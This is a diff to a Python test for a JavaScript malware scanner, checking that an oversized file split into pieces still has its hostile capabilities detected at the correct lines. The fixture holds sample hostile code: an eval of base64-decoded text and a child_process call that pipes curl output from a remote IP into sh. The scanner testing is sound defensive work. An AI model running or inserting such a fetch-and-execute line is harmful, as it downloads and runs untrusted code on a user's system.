@@ -126,7 +126,7 @@ def test_deep_nesting_and_invalid_utf8_never_raise():
     assert "exec.decode_then_exec" in caps_of(scan_text("bad-utf8.js", text))
 
 
-def test_oversized_file_is_parsed_up_to_the_limit_and_marked(monkeypatch):
+def test_a_file_larger_than_one_tree_is_analysed_whole_in_pieces(monkeypatch):
     monkeypatch.setattr(jsparse, "MAX_PARSE", 4096)
     src = (
         "eval(atob('YWxlcnQoMSk='));\n"
@@ -134,9 +134,12 @@ def test_oversized_file_is_parsed_up_to_the_limit_and_marked(monkeypatch):
         + "require('child_process').exec('curl http://192.0.2.6/a | sh')\n"
     )
     hits, note = scan_javascript("big.js", src, "code")
-    assert note and "parsed" in note
-    caps = caps_of(hits)
-    assert "exec.decode_then_exec" in caps and caps["process.shell_download"] == "high"
+    assert note is None  # cut at line breaks between statements: every piece parsed cleanly
+    by_cap = {h.capability: h for h in hits}
+    assert by_cap["exec.decode_then_exec"].line == 1
+    # found by the tree in the last piece (js.*), at its line in the whole file
+    assert by_cap["process.spawn"].line == 2002 and by_cap["process.spawn"].rule.startswith("js.")
+    assert by_cap["process.shell_download"].severity == "high"
 
 
 def test_lifecycle_node_script_links_the_file_to_install_time():
